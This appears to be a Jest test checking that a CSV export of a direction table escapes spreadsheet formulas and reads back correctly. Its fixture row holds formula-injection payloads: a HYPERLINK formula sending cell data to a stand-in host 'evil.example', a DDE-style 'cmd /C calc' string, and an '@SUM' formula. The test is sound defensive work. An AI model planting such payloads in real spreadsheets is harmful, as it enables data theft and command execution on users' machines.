/** The table of directions is opened in a spreadsheet, and read back. */
import { expect, test } from '@jest/globals';
import { directionTable } from '../../../src/core/rating/direction-list.js';
import { foldLabel } from '../../../src/core/text/fold.js';
import { readSent } from '../../../src/workbook/files.js';

test('what a workbook calls an indicator is no formula in the table, and is known again when it comes back', async () => {
  const row = {
    organization: '@SUM(A1)',
    no: '1',
    name: '=HYPERLINK("http://evil.example/?"&D2,"参加者数")',
    target: "+1人|cmd' /C calc'!A0",
    direction: 'higher' as const,
    from: 'words' as const,
    likely: null,
  };
  const table = directionTable([row]);
  const cells = table.split('\r\n')[1]!.match(/"(?:[^"]|"")*"/gu)!;
  expect(cells.filter((cell) => /^"'?[=+@]/u.test(cell))).toEqual(
    cells.filter((cell) => cell.startsWith(`"'`)),
  );
  expect(cells.filter((cell) => cell.startsWith(`"'`))).toHaveLength(3);
  const read = await readSent(new TextEncoder().encode(table), '向き.csv');
  expect(read).toMatchObject({
    kind: 'directions',
    rows: [{ organization: foldLabel(row.organization), name: foldLabel(row.name), direction: 'higher' }],
  });
});
